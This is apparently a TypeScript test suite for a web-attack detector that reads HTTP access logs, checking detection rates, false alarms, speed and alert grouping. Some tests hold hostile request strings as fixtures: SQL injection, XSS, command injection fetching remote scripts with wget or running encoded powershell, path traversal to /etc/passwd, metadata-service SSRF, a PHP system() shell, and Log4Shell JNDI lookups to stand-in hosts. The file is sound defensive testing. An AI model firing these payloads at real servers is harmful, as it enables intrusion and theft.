import { deepEqual, equal, ok } from "node:assert/strict";
import { existsSync, readFileSync } from "node:fs";
import { test } from "node:test";
import { gunzipSync } from "node:zlib";
import { day, hour, instant, minute } from "#core/instant.ts";
import type { Fact } from "#detect/behaviour.ts";
import { factOf } from "#detect/fact.ts";
import { webAttack } from "#detect/web-attack/behaviour.ts";
import { codeSigns } from "#detect/web-attack/code.ts";
import { commandSigns } from "#detect/web-attack/command.ts";
import { decodedQuery } from "#detect/web-attack/decoded.ts";
import { fileSigns } from "#detect/web-attack/file.ts";
import { type Judged, requestJudge } from "#detect/web-attack/judge.ts";
import { protocolSigns } from "#detect/web-attack/protocol.ts";
import { scriptSigns } from "#detect/web-attack/script.ts";
import { webAttackKinds } from "#detect/web-attack/sign.ts";
import { sqlSigns } from "#detect/web-attack/sql.ts";
import { parseAccess } from "#telemetry/access-log/parse.ts";
import type { HttpRequest } from "#telemetry/format.ts";
import { behaviours as words } from "#words/en/behaviours.ts";
import { made, monthOf, nowhere, told } from "./behaviour-world.ts";
import { randomOf } from "./benign-month.ts";
import { oddRequest } from "./benign-web.ts";

const start = Date.UTC(2026, 5, 8, 1);

const corpus = new URL("../../shared/corpora/detection/web/crs-requests.jsonl.gz", import.meta.url);
const skip = existsSync(corpus) ? false : "the corpora are not beside this checkout";

interface Labelled {
  readonly id: string;
  readonly label: "attack" | "negative" | "unknown";
  readonly visible_in_access_log: boolean;
  readonly combined: string;
}

const labelled = (): { readonly of: Labelled; readonly line: string; readonly http: HttpRequest }[] =>
  gunzipSync(readFileSync(corpus))
    .toString("utf8")
    .trim()
    .split("\n")
    .map((text) => {
      const of = JSON.parse(text) as Labelled;
      const parsed = parseAccess(of.combined, {});
      ok(parsed?.ok, of.combined);
      // what the line says beside who and when
      return { of, line: of.combined.slice(of.combined.indexOf('"')), http: parsed.value.http ?? {} };
    });

test("the labelled requests: what an access log shows of attacks is found, and what it does not show is told apart", {
  skip,
}, (t) => {
  const all = labelled();
  const judge = requestJudge();
  const negatives = all.filter(({ of }) => of.label === "negative");
  const visible = all.filter(({ of }) => of.label === "attack" && of.visible_in_access_log);
  const harmless = new Set(negatives.map(({ line }) => line));
  const agents = new Set(negatives.map(({ http }) => http.agent));
  // Flagged visible in the corpus, yet the line says nothing: the attack was in a header or a body.
  const same = visible.filter(({ line }) => harmless.has(line));
  const bare = ({ http }: { readonly http: HttpRequest }): boolean =>
    /^\/(?:[a-z]+\/?)*\d?(?:\.html|\.pdf)?$/.test(http.path ?? "/") &&
    http.query === undefined &&
    (http.referrer === undefined || /^https:\/\/[a-z.]+\/$/.test(http.referrer)) &&
    (http.agent === undefined || agents.has(http.agent));
  const shown = visible.filter((one) => !bare(one) && !harmless.has(one.line));
  const found = (list: typeof all): number => list.filter(({ http }) => judge(http)).length;
  const [ofAll, ofShown, false_] = [found(visible), found(shown), found(negatives)];
  t.diagnostic(
    `${ofAll} of ${visible.length} flagged visible (${(ofAll / visible.length).toFixed(3)}); ${same.length} of those are letter for letter a harmless line of the corpus, ` +
      `${visible.length - shown.length} say nothing; ${ofShown} of the ${shown.length} left (${(ofShown / shown.length).toFixed(3)}); ` +
      `${false_} of ${negatives.length} negatives, which are near misses of one rule each`,
  );
  equal(visible.length, 598);
  // No judge of lines can do better than this without calling harmless lines attacks: 0.8545.
  equal(same.length, 87);
  ok(found(same) === 0, "a line that is also harmless is never called");
  ok(negatives.filter(bare).length >= 250, "bare lines are what most harmless ones look like");
  ok(ofAll / visible.length >= 0.8, `${ofAll} of ${visible.length}`);
  ok(ofShown / shown.length >= 0.95, `${ofShown} of ${shown.length}`);
  ok(ofAll / (visible.length - same.length) >= 0.94, `${ofAll} of ${visible.length - same.length}`);
  ok(false_ / negatives.length <= 0.065, `${false_} of ${negatives.length}`);
});

test("every request of the corpus that is judged an attack is a hit with its own line", { skip }, () => {
  const judge = requestJudge();
  const all = labelled();
  const facts = all.map(({ of }, n) => {
    const parsed = parseAccess(of.combined, {});
    ok(parsed?.ok);
    return factOf(parsed.value, { id: String(n).padStart(6, "0"), sensor: "a.log", from: "a.log", line: n + 1 });
  });
  const hits = told(webAttack, facts);
  const lines = new Set(
    hits.filter(({ evidence }) => evidence.length === 1).flatMap(({ evidence }) => evidence.map(({ line }) => line)),
  );
  const judged = all.flatMap(({ http }, n) => (judge(http) ? [n + 1] : []));
  deepEqual(
    judged.filter((line) => !lines.has(line)),
    [],
  );
});

test("what a sign waits for is in all that it matches", { skip }, () => {
  const signs = [...sqlSigns, ...scriptSigns, ...commandSigns, ...fileSigns, ...codeSigns, ...protocolSigns];
  const wrong = new Set<string>();
  for (const { http } of labelled())
    for (const raw of [http.path ?? "", http.query ?? "", http.referrer ?? "", http.agent ?? ""]) {
      const { text, lines } = decodedQuery(raw);
      for (const { pattern, needs, in: where } of signs) {
        const read = where?.includes("lines") ? lines : text;
        if (needs !== undefined && pattern.test(read) && ![...needs].some((one) => read.includes(one)))
          wrong.add(`${pattern.source.slice(0, 80)}: ${read.slice(0, 80)}`);
      }
    }
  deepEqual([...wrong], []);
});

const judged = (target: string, over: Partial<HttpRequest> = {}): Judged | undefined => {
  const [path = "", query] = target.split(/\?(.*)/s);
  return requestJudge()({ method: "GET", path, status: 200, ...(query === undefined ? {} : { query }), ...over });
};

test("each kind, in spellings that are in no corpus", () => {
  const attacks: readonly (readonly [string, string])[] = [
    ["sql", "/item?id=7%27%20UNION/**/ALL/**/SELECT%20null,login,pass%20FROM%20members--%20-"],
    ["sql", "/item?id=7)%20and%20(select%20count(*)%20from%20members)%3E0"],
    ["sql", "/p?u=x%2527%2520or%25201%253D1%2523"],
    ["sql", "/p?id=1;waitfor%20delay%20'0:0:9'"],
    ["sql", "/users?login[$gt]=&pass[$gt]="],
    ["script", "/q?s=%3CsCrIpT%20src=//x.example/a.js%3E"],
    ["script", "/q?s=%22%3E%3Cimg%20src%3Dx%20onerror%3Dalert(1)%3E"],
    ["script", "/q?u=JaVaScRiPt:top[%22al%22%2B%22ert%22](1)"],
    ["command", "/cgi?host=192.0.2.1;cat$IFS/etc/hostname"],
    ["command", "/cgi?host=%60wget%20http://192.0.2.9/a.sh%60"],
    ["command", "/cgi?host=a%7C%7Cpowershell%20-enc%20SQBFAFgA"],
    ["file", "/view?f=....//....//....//etc/passwd"],
    ["file", "/static/..%252f..%252f..%252fwindows/win.ini"],
    ["file", "/view?f=php://filter/convert.base64-encode/resource=index"],
    ["remote-file", "/fetch?url=http://169.254.169.254/latest/meta-data/"],
    ["remote-file", "/index?page=https://files.example/x.txt?"],
    ["code", "/i?a=%3C?php%20system($_GET[0]);?%3E"],
    ["code", "/i?class.module.classLoader.resources.context.parent=x"],
    ["template", "/hi?name={{7*7}}"],
    ["template", "/hi?name=%23%7bT(java.lang.Runtime)%7d"],
    ["log4shell", "/?x=$%7B$%7Blower:j%7Dndi:$%7Blower:l%7Ddap://192.0.2.9/a%7D"],
    ["protocol", "/go?to=a%0d%0aSet-Cookie:%20admin=1"],
    ["secret-file", "/.git/config"],
    ["secret-file", "/backup/site.sql.gz"],
    ["secret-file", "/app/.env.production"],
  ];
  for (const [kind, target] of attacks) {
    const found = judged(target);
    ok(found, target);
    ok(found.kind === kind || found.score >= 0.9, `${target}: ${found.kind} ${found.score} "${found.shown}"`);
  }
  equal(judged("/", { agent: "sqlmap/1.8 (https://sqlmap.example)" })?.kind, "scanner");
  equal(judged("/", { agent: "() { :; }; /bin/sh -c 'id'" })?.kind, "command");
  equal(judged("/", { referrer: "https://a.example/?q=${jndi:ldap://192.0.2.9/a}" })?.kind, "log4shell");
  // in front of it 9,000 characters of nothing
  ok(judged(`/p?a=${"x".repeat(9000)}&b=1%27%20or%201=1--`));
  equal(judged("/phpmyadmin/", { status: 404 })?.kind, "secret-file");
  equal(judged("/phpmyadmin/", { status: 200 }), undefined);
});

test("odd honest requests are left alone: at most one in 5,000 of nothing but odd ones", (t) => {
  const random = randomOf(11);
  const judge = requestJudge();
  const called: string[] = [];
  for (let n = 0; n < 40_000; n++) {
    const request = oddRequest(random);
    const found = judge(request);
    if (found) called.push(`${found.kind} "${found.shown}" of ${request.path}?${request.query}`);
  }
  t.diagnostic(`${called.length} of 40,000`);
  ok(called.length <= 8, called.slice(0, 20).join("\n"));
});

test("the benign month: at most ten false in 100,000 lines", (t) => {
  const facts = [...monthOf()].filter(({ http }) => http);
  const hits = told(webAttack, facts);
  const rate = (hits.length * 100_000) / facts.length;
  t.diagnostic(`${hits.length} of ${facts.length} lines, ${rate.toFixed(1)} per 100,000`);
  ok(facts.length > 30_000);
  ok(rate <= 10, hits.map(({ because }) => JSON.stringify(because[0])).join("\n"));
});

test("hostile text of 4 kB costs less than 5 ms, whatever part it stands in; what is longer costs no more", (t) => {
  const seeds =
    'a|%41|%2525|&|&#60;|&#0|\\u0041|${|${jndi|${a:|< s|<a b |"on|\' or |\'or 1|select |select a,|select a, b |union((|/*|*/|/*!|(|)(|{{a|{a,|[a]|("a")|$a[|$a[]|@$a->|\\|../|..|./|//|;a|`a|=1 or |1 or |a_b_|a__b__|a[|--|case when |if(a|concat(a|cast(a |group by a|order by |=http://a@|javascript:|j a v a s c r i p t|document.|on a|alias +|{,a|a\'\'|ls -|nohup |/a*|/bin/|/et$|%0d%0a|%00|x=x&&|%ff| |\t|bin/|%uff21|echo a/|base64_decode |system (\'|in x|![]|[!+|"a""b"|jar:|function(a|where |=aHR0cDovL2EuYg|=aaaaaaaaaaaaaaaa|a=$_a|create table a'.split(
      "|",
    );
  let worst = { ms: 0, of: "" };
  const judge = requestJudge();
  const costs = (request: HttpRequest): number => {
    let least = Number.POSITIVE_INFINITY;
    for (let n = 0; n < 5 && least > 1; n++) {
      const began = performance.now();
      // an agent is remembered, so it is another one each time
      judge(request.agent === undefined ? request : { agent: request.agent.slice(0, 4090) + " ".repeat(n + 1) });
      least = Math.min(least, performance.now() - began);
    }
    return least;
  };
  for (const seed of seeds)
    for (const text of [seed, `x=${seed}`])
      for (const part of ["path", "query", "referrer", "agent"] as const) {
        const long = text + seed.repeat(Math.ceil((part === "path" ? 20_000 : 4096) / seed.length));
        const ms = costs({ [part]: part === "path" ? long : long.slice(0, 4096) });
        if (ms > worst.ms) worst = { ms, of: `${part} of ${JSON.stringify(text)}` };
      }
  t.diagnostic(`${worst.ms.toFixed(2)} ms, ${worst.of}`);
  ok(worst.ms < 20, `${worst.ms.toFixed(2)} ms, ${worst.of}`);
});

test("honest requests are judged at 300,000 in a CPU-second", (t) => {
  const random = randomOf(3);
  const judge = requestJudge();
  const agents = Array.from(
    { length: 50 },
    (_, n) => `Mozilla/5.0 (X11; Linux x86_64; rv:${100 + n}.0) Gecko/20100101 Firefox/${100 + n}.0`,
  );
  const requests = Array.from(
    { length: 50_000 },
    (): HttpRequest => ({
      ...{
        method: "GET",
        path:
          ["/", "/news/2026/06/item-12", "/assets/app.1f3a.js", "/zh/forms/a-1.html", "/api/v1/items"][
            Math.floor(random() * 5)
          ] ?? "/",
        status: 200,
      },
      ...(random() < 0.4 ? { query: `page=${Math.floor(random() * 50)}&sort=date&lang=zh-hant` } : {}),
      ...(random() < 0.6 ? { referrer: "https://www.office.example/news/2026/?page=2" } : {}),
      agent: agents[Math.floor(random() * agents.length)] ?? "",
    }),
  );
  let best = 0;
  for (let round = 0; round < 5; round++) {
    const began = process.cpuUsage();
    for (const request of requests) if (judge(request)) throw new Error(JSON.stringify(request));
    const { user, system } = process.cpuUsage(began);
    best = Math.max(best, requests.length / ((user + system) / 1e6));
  }
  t.diagnostic(`${Math.round(best)} a CPU-second`);
  ok(best >= 150_000, `${Math.round(best)}`);
});

const asks = (
  n: number,
  target: string,
  over: Partial<HttpRequest> & { readonly at?: number; readonly from?: string } = {},
): Fact => {
  const { at = start + n * 1000, from = "198.51.100.7", ...http } = over;
  const [path = "", query] = target.split(/\?(.*)/s);
  return made(
    {
      ...{
        time: instant(at),
        event: "access",
        source: { address: from },
        destination: { address: "10.20.0.13", port: 443 },
      },
      http: { method: "GET", path, status: 200, bytes: 5000, ...(query === undefined ? {} : { query }), ...http },
    },
    n,
  );
};

test("a client's attacks are named one by one up to the bound, then counted, and summed up when it is silent", () => {
  const facts = Array.from({ length: 80 }, (_, n) => asks(n, `/item?id=${n}%27%20or%201=1--%20-`, { status: 404 }));
  const later = asks(90_000, "/", { at: start + 20 * hour, from: "198.51.100.8" });
  const hits = told(webAttack, [...facts, later]);
  const says = hits.map(({ because }) => because[0]?.says);
  equal(says.filter((one) => one === "web-attack.sql").length, 50);
  equal(says.filter((one) => one === "web-attack.more").length, 1);
  const sum = hits.find(({ because }) => because[0]?.says === "web-attack.sum");
  deepEqual(sum?.because[0]?.with, { count: 80, source: "198.51.100.7", server: "10.20.0.13" });
  equal(sum?.first, start);
  equal(sum?.last, start + 79_000);
  deepEqual(
    hits[0]?.entities.map(({ kind, value }) => `${kind} ${value}`),
    ["address 10.20.0.13", "address 198.51.100.7"],
  );
  equal(hits[0]?.problem.type, "exploit");
  deepEqual(
    hits[0]?.evidence.map(({ line }) => line),
    [1],
  );
});

test("many kinds from one client, and a search for pages that are not there, are said once", () => {
  const kinds = ["/?a=1%27%20or%201=1--", "/?a=%3Cscript%3E", "/?a=../../etc/passwd", "/?a=;wget%20http://x.example/"];
  const hits = told(
    webAttack,
    [...kinds, ...kinds].map((target, n) => asks(n, target)),
  );
  equal(hits.filter(({ because }) => because[0]?.says === "web-attack.many").length, 1);
  const search = told(
    webAttack,
    Array.from({ length: 300 }, (_, n) => asks(n, `/guess-${n}`, { status: n % 20 ? 404 : 200 })),
  );
  deepEqual(
    search.map(({ because, problem }) => [because[0]?.says, problem.type]),
    [["web-attack.search", "scanner"]],
  );
  // a crawler after a move: most pages are there
  deepEqual(
    told(
      webAttack,
      Array.from({ length: 600 }, (_, n) => asks(n, `/old-${n}`, { status: n % 5 ? 200 : 404 })),
    ),
    [],
  );
});

/** Two days on which everybody gets the same pages. */
const usual = Array.from({ length: 600 }, (_, n) =>
  asks(n, ["/", "/item", "/news"][n % 3] ?? "/", {
    at: start + n * 5 * minute,
    from: `192.0.2.${n % 50}`,
    bytes: 4000 + (n % 7) * 300,
  }),
);
const then = start + 2 * day + hour * 3;

test("what may have worked weighs more: a far larger answer, and a new page after an answered attack", () => {
  const attack = "/item?id=7%27%20union%20select%20login,pass%20from%20members--";
  const said = (facts: readonly Fact[]): unknown[] =>
    told(webAttack, [...usual, ...facts])
      .filter(({ severity }) => severity === "high")
      .map(({ because, problem }) => [because[0]?.says, problem.type]);
  deepEqual(said([asks(1000, attack, { at: then, bytes: 400_000 })]), [
    ["web-attack.larger", "application-compromise"],
  ]);
  deepEqual(said([asks(1000, attack, { at: then, bytes: 6000 })]), []);
  deepEqual(said([asks(1000, attack, { at: then, bytes: 400_000, status: 403 })]), []);
  const planted = [asks(1000, attack, { at: then }), asks(1001, "/upload/x.php", { at: then + 10 * minute })];
  deepEqual(said(planted), [["web-attack.new-page", "application-compromise"]]);
  // a page others know, one that is not there, and one asked for a day later
  deepEqual(said([asks(1000, attack, { at: then }), asks(1001, "/news", { at: then + 10 * minute })]), []);
  deepEqual(said([asks(1000, attack, { at: then }), asks(1001, "/x.php", { at: then + minute, status: 404 })]), []);
  deepEqual(said([asks(1000, attack, { at: then }), asks(1001, "/x.php", { at: then + day })]), []);
});

test("what ours ask outside is no attack on us, nor what a proxy saw", () => {
  const outside = asks(0, "/?a=1%27%20or%201=1--");
  const ours = { ...outside, source: { address: "10.20.1.9" }, destination: { address: "198.51.100.7", port: 443 } };
  deepEqual(told(webAttack, [ours]), []);
  deepEqual(told(webAttack, [{ ...outside, event: "proxy" }]), []);
  equal(told(webAttack, [outside]).length, 1);
});

test("another process goes on from the checkpoint", () => {
  const facts = [
    ...usual,
    ...Array.from({ length: 120 }, (_, n) =>
      asks(2000 + n, n % 3 ? `/item?id=${n}%27%20or%201=1--` : `/guess-${n}`, {
        at: then + n * 1000,
        status: n % 3 ? 200 : 404,
      }),
    ),
    asks(3000, "/left.php", { at: then + 5 * minute }),
    asks(3001, "/", { at: then + 10 * hour, from: "192.0.2.3" }),
  ];
  deepEqual(told(webAttack, facts, { killed: 17 }), told(webAttack, facts));
});

test("memory is bounded, and what was forgotten is counted", () => {
  const watch = webAttack.open({ score: 0.65, requests: 50, kinds: 3, missing: 60, clients: 1000 }, nowhere);
  for (let n = 0; n < 3000; n++) watch.take(asks(n, "/?a=%3Cscript%3E", { from: `198.${n >> 8}.100.${n & 255}` }));
  equal(watch.forgotten(), 2000);
  ok(JSON.stringify(watch.save()).length < 1_000_000);
});

test("every kind has its sentences", () => {
  for (const kind of webAttackKinds)
    for (const says of [`web-attack.${kind}`, `web-attack.of-${kind}`]) ok(says in words, says);
});
